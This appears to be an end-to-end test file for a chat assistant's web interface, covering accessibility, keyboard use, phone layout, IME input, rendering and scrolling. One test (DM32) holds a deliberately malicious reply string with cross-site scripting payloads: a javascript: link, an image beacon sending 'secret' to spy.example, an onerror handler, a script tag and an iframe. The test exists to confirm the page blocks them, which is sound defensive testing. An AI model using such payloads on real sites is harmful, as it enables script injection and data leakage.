import type { JSHandle, Locator } from 'playwright-core'
import { beforeAll, expect, test } from 'vitest'

import { longTest } from '../test/support/long-test.ts'
import { chatPage } from './support/chat-page.ts'
import { takeScreenshot } from './support/screenshot.ts'
import { findViolations } from './support/axe-violations.ts'
import { useTestDemo } from './support/use-test-demo.ts'

const testDemo = useTestDemo()

// A PNG of one pixel.
const DOT =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='
const PHONE = { viewport: { width: 375, height: 740 }, hasTouch: true, isMobile: true }
const RICH = `# Weather

| City | °C |
|---|---|
| 東京 | 18 |

- \`one\`
- **two**

> quoted

\`\`\`ts
const wide = "a line of code that is much too long for the screen of a phone and scrolls within itself"
\`\`\``

beforeAll(() => {
  testDemo.respondTo('all you can', () => [
    { type: 'think', text: 'Let me look.' },
    { type: 'say', text: RICH },
    { type: 'image', mimeType: 'image/png', data: DOT },
    { type: 'ground', sources: [{ uri: 'https://example.com/', title: 'Example' }] },
  ])
})

longTest.each(['light', 'dark'] as const)(
  '[DM26] axe finds no violation in a chat and in an error, with %s colours',
  async (scheme) => {
    const page = await testDemo.openPage({ colorScheme: scheme })
    const { send, tool, alert, waitUntilIdle, log } = chatPage(page)
    await send('What is the weather in Tokyo?')
    await tool('get_weather').getByText('Done').waitFor()
    await waitUntilIdle()
    await send('Send $50 to Alice')
    await tool('process_payment').getByRole('button', { name: 'Approve' }).click()
    await tool('process_payment').getByText('Done').waitFor()
    await waitUntilIdle()
    await send('Show me all you can')
    await log.getByRole('link', { name: 'Example' }).waitFor()
    await waitUntilIdle()
    for (const summary of await page.locator('summary').all()) await summary.click()
    expect(await findViolations(page)).toEqual([])
    await takeScreenshot(page, `chat-${scheme}`)

    await send('[[fail 429 retry=7 quota]]')
    await alert.waitFor()
    expect(await findViolations(page, '.adk-problem')).toEqual([])
    await takeScreenshot(page, `problem-${scheme}`)
  },
)

test('[DM392] the outline of the page is shown in the stored theme before its scripts are loaded', async () => {
  const page = await testDemo.openPage({ colorScheme: 'light' })
  await page.evaluate(() => localStorage.setItem('theme', 'dark'))
  await page.route('**/assets/*.js', () => undefined)
  await page.reload({ waitUntil: 'commit' })
  await page.locator('.skeleton-input').waitFor()
  const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor)
  await expect.poll(background).toBe('rgb(23, 22, 20)')
  await takeScreenshot(page, 'loading-dark')
})

// In `npm test`, accessibility.test.ts has a longer test with the keyboard.
longTest('[DM26] suggestions, replies and Stop can be used with the keyboard', async () => {
  const page = await testDemo.openPage()
  const { log, tool, input, reply, stop, waitUntilIdle, send } = chatPage(page)
  const focused = () =>
    page.evaluate(() => {
      const { activeElement: element } = document
      return element?.ariaLabel ?? element?.textContent
    })

  // The input has the focus, and the suggestions come before it.
  await page.getByText('What would you like to do?').waitFor()
  await page.keyboard.press('Shift+Tab')
  expect(await focused()).toBe('More examples')
  await page.keyboard.press('Enter')
  await page.keyboard.press('Tab')
  expect(await focused()).toBe('What is the weather in Tokyo?')
  await page.keyboard.press('Enter')
  await tool('get_weather').getByText('Done').waitFor()
  await waitUntilIdle()
  expect(await input.evaluate((element) => element === document.activeElement)).toBe(true)

  await page.keyboard.press('Shift+Tab')
  expect(await focused()).toBe('Copy')
  await page.keyboard.press('Shift+Tab')
  expect(await focused()).toBe('Try again')
  await page.keyboard.press('Shift+Tab')
  expect(await focused()).toBe('Details')
  await page.keyboard.press('Enter')
  await log.getByText('"Tokyo"').waitFor()

  await send('[[say Wait for it]][[wait keyboard]]')
  await reply(1).getByText('Wait for it').waitFor()
  await page.keyboard.press('Tab')
  expect(await focused()).toBe('Add pictures')
  await page.keyboard.press('Tab')
  expect(await focused()).toMatch(/^Talk/)
  await page.keyboard.press('Tab')
  expect(await stop.evaluate((element) => element === document.activeElement)).toBe(true)
  await page.keyboard.press('Enter')
  await waitUntilIdle()
})

test('[DM27] the page fits a phone', async () => {
  const page = await testDemo.openPage({ ...PHONE, locale: 'ja-JP' })
  const { send, log, waitUntilIdle } = chatPage(page)
  const overflow = () =>
    page.evaluate(() => {
      const root = document.documentElement
      const column = document.querySelector('.scroller')
      return Math.max(
        root.scrollWidth - root.clientWidth,
        (column?.scrollWidth ?? 0) - (column?.clientWidth ?? 0),
      )
    })
  await page.getByText('何をお手伝いしましょうか？').waitFor()
  expect(await overflow()).toBe(0)
  expect((await page.locator('.top-bar').boundingBox())?.height).toBeLessThanOrEqual(64)
  await takeScreenshot(page, 'phone-welcome')

  await send('Show me all you can')
  await log.getByRole('link', { name: 'Example' }).waitFor()
  await waitUntilIdle()
  await send('Aliceに30ドル、Bobに40ドル送金してください')
  await log.getByRole('button', { name: '承認' }).first().waitFor()
  await waitUntilIdle()
  expect(await overflow()).toBe(0)
  expect(await findViolations(page)).toEqual([])
  await takeScreenshot(page, 'phone-chat')
})

test('[DM28] Enter sends, Shift+Enter adds a line, and Enter that accepts a conversion does neither', async () => {
  const page = await testDemo.openPage()
  const { input, log, waitUntilIdle } = chatPage(page)
  await input.pressSequentially('one')
  await input.press('Shift+Enter')
  await input.pressSequentially('two')
  expect(await input.inputValue()).toBe('one\ntwo')
  expect(await log.locator('[data-role=user]').count()).toBe(0)
  await input.press('Enter')
  await log.locator('[data-role=user]').waitFor()
  expect(await log.locator('.adk-said').textContent()).toBe('one\ntwo')
  expect(await input.inputValue()).toBe('')
  await log.locator('[data-role=assistant]').waitFor()
  await waitUntilIdle()

  await input.focus()
  const browser = await page.context().newCDPSession(page)
  await browser.send('Input.imeSetComposition', {
    text: '東京',
    selectionStart: 2,
    selectionEnd: 2,
  })
  await input.press('Enter')
  expect(await log.locator('[data-role=user]').count()).toBe(1)
  expect(await input.inputValue()).toContain('東京')

  await browser.send('Input.insertText', { text: '東京' })
  await input.press('Enter')
  await log.locator('[data-role=user]').nth(1).waitFor()
  expect(await log.locator('.adk-said').nth(1).textContent()).toContain('東京')
})

test('[DM29] a chunk renders the message that it belongs to, and nothing else', async () => {
  const page = await testDemo.openPage()
  const { send, reply, waitUntilIdle, log } = chatPage(page)
  await send('[[say The first reply.]]')
  await reply(0).getByText('The first reply.').waitFor()
  await waitUntilIdle()
  await send(
    '[[say one]][[wait render]][[say two three four five six seven eight nine ten]][[wait rendered]]',
  )
  await reply(1).getByText('one').waitFor()

  const unaffected = ['.composer', '.top-bar', '.panel-start > *', '.chat-link']
  const watched = [reply(0), reply(1), ...unaffected.map((each) => page.locator(each).first())]
  const before = await Promise.all(watched.map(readProps))
  testDemo.emulator.release('render')
  await log.getByText('nine ten').waitFor()
  const kept = await Promise.all(
    watched.map((element, index) =>
      element.evaluate((node, props) => Object.values(node).includes(props), before[index]),
    ),
  )
  expect(kept).toEqual([true, false, ...unaffected.map(() => true)])
  testDemo.emulator.release('rendered')
  await waitUntilIdle()
})

test('[DM30] the page follows the reply until the person scrolls up, and again after they return to the end', async () => {
  const page = await testDemo.openPage({ viewport: { width: 800, height: 500 } })
  const { send, reply, waitUntilIdle } = chatPage(page)
  const distance = () =>
    page.locator('.scroller').evaluate((e) => e.scrollHeight - e.clientHeight - e.scrollTop)
  await send(
    `[[say ${lines('first')}]][[wait up]][[say \n\n${lines('second')}]][[wait down]][[say \n\n${lines('third')}]]`,
  )
  await reply().getByText('first 19').waitFor()
  await expect.poll(distance).toBeLessThan(2)

  await page.mouse.move(400, 200)
  await page.mouse.wheel(0, -600)
  await page.getByRole('button', { name: 'Go to the latest message' }).waitFor()
  const top = await page.locator('.scroller').evaluate((element) => element.scrollTop)
  testDemo.emulator.release('up')
  await reply().getByText('second 19').waitFor({ state: 'attached' })
  expect(await page.locator('.scroller').evaluate((element) => element.scrollTop)).toBe(top)

  await page.getByRole('button', { name: 'Go to the latest message' }).click()
  testDemo.emulator.release('down')
  await reply().getByText('third 19').waitFor()
  await waitUntilIdle()
  await expect.poll(distance).toBeLessThan(2)
})

// In `npm test`, japanese.test.ts covers both.
longTest('[DM31] the page uses the language of the browser, or the chosen one', async () => {
  const page = await testDemo.openPage({ locale: 'ja-JP' })
  await page.getByText('何をお手伝いしましょうか？').waitFor()
  expect(await page.getAttribute('html', 'lang')).toBe('ja')
  await page.getByRole('button', { name: '設定' }).click()
  await page.getByRole('radio', { name: 'English' }).click({ force: true })
  await page.getByText('What would you like to do?').waitFor()
  expect(await page.getAttribute('html', 'lang')).toBe('en')
  await page.reload()
  await page.getByText('What would you like to do?').waitFor()
})

test('[DM32] a reply cannot run scripts, link to scripts or load content from other origins', async () => {
  const page = await testDemo.openPage()
  const { send, log, waitUntilIdle } = chatPage(page)
  const otherOrigins: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(testDemo.demo.url)) otherOrigins.push(request.url())
  })
  const malicious =
    'Look: [run](javascript:alert(1)) ![spy](https://spy.example/?q=secret) <img src="https://spy.example/2" onerror="window.hacked=1"> <script>window.hacked=1</script> <iframe src="https://spy.example/3"></iframe> [fine](https://example.com) End.'
  testDemo.respondTo('be evil', () => [{ type: 'say', text: malicious }])
  await send('Please be evil')
  await log.getByText('End.').waitFor()
  await waitUntilIdle()

  expect(await page.evaluate('window.hacked')).toBeUndefined()
  expect(await log.locator('script, iframe, [onerror], a[href^="javascript:"]').count()).toBe(0)
  expect(otherOrigins.filter((url) => !url.startsWith('data:'))).toEqual([])
  const fine = log.getByRole('link', { name: 'fine' })
  expect(await fine.getAttribute('rel')).toBe('noopener noreferrer')
})

/** Returns the props of an element. React 19 creates a new object for them whenever its component renders. */
function readProps(element: Locator): Promise<JSHandle<unknown>> {
  return element.evaluateHandle((node): unknown => {
    const key = Object.keys(node).find((name) => name.startsWith('__reactProps$'))
    return Reflect.get(node, key ?? '')
  })
}

function lines(name: string): string {
  return Array.from({ length: 20 }, (_, index) => `${name} ${index}`).join('\n\n')
}
